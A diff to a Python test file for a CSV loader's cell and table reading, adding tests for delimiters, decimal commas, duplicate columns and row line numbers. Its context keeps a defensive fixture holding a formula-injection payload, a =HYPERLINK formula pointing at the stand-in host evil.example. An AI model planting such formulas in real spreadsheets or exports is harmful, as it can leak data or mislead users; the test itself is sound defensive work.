@@ -1,11 +1,16 @@
-"""The cells every CSV the product writes is made of (caleido/loaders/csv_format.py): a spreadsheet never runs them
-as a formula, and plain numbers stay numbers."""
+"""What every CSV the product reads or writes shares (caleido/loaders/csv_format.py): cells a spreadsheet never runs
+as a formula, with plain numbers left numbers, and tables read whatever delimiter a spreadsheet wrote, with a
+repeated column refused and each row's real line number."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
-from caleido.loaders.csv_format import read_cell, spreadsheet_cell
+from caleido.errors import InvalidData
+from caleido.loaders.csv_format import read_cell, read_table, spreadsheet_cell
 
 NEUTRALISED = [
     '=HYPERLINK("http://evil.example/?x","klik hier")',
@@ -46,3 +51,50 @@ def test_values_that_are_not_text() -> None:
 
 def test_a_number_written_with_an_apostrophe_before_reads_back() -> None:
     assert read_cell("'-0.16") == "-0.16"  # exports made before plain numbers were left alone
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_the_delimiter_comes_from_the_header(delimiter: str) -> None:
+    out = io.StringIO()
+    csv.writer(out, delimiter=delimiter).writerows([["a", "b", "c"], ["1,5", "x;y", "z\tq"]])
+    table = read_table("t.csv", out.getvalue())
+    assert (table.header, table.rows, table.delimiter) == (["a", "b", "c"], [(2, ["1,5", "x;y", "z\tq"])], delimiter)
+
+
+@pytest.mark.parametrize(
+    ("delimiter", "cell", "number"),
+    [
+        (";", "0,07", "0.07"),
+        (";", "-0,16", "-0.16"),
+        ("\t", ",5", ".5"),
+        (";", "0.07", "0.07"),
+        (";", "1.234,5", "1.234,5"),  # thousands and decimals: left for the number check to refuse
+        (",", "0,07", "0,07"),  # in a comma file a comma is never a decimal sign
+    ],
+)
+def test_a_decimal_comma_is_a_decimal_point_where_commas_do_not_separate_cells(
+    delimiter: str, cell: str, number: str
+) -> None:
+    table = read_table("t.csv", delimiter.join(["a", "b"]) + "\n")
+    assert table.number(cell) == number
+
+
+def test_a_column_named_twice_is_refused_naming_it() -> None:
+    with pytest.raises(InvalidData) as caught:
+        read_table("dup.csv", "factor_name,outcome,factor_name\nfirst name,y,second name\n")
+    (problem,) = caught.value.problems
+    assert (problem.file, problem.location, problem.field) == ("dup.csv", "line 1", "factor_name")
+    assert "named twice (columns 1 and 3)" in problem.message
+
+
+def test_rows_carry_the_line_they_start_on() -> None:
+    text = '\ufeffa,b\r\n1,"two\r\nlines"\r\n\r\n , \r\n3,4\r\n'
+    table = read_table("t.csv", text)
+    assert table.rows == [(2, ["1", "two\r\nlines"]), (6, ["3", "4"])]  # blank rows are left out
+
+
+def test_text_that_is_not_csv_names_the_line() -> None:
+    with pytest.raises(InvalidData) as caught:
+        read_table("t.csv", 'a,b\n1,2\n3,"open\n')
+    (problem,) = caught.value.problems
+    assert problem.location == "line 3" and "not valid CSV" in problem.message
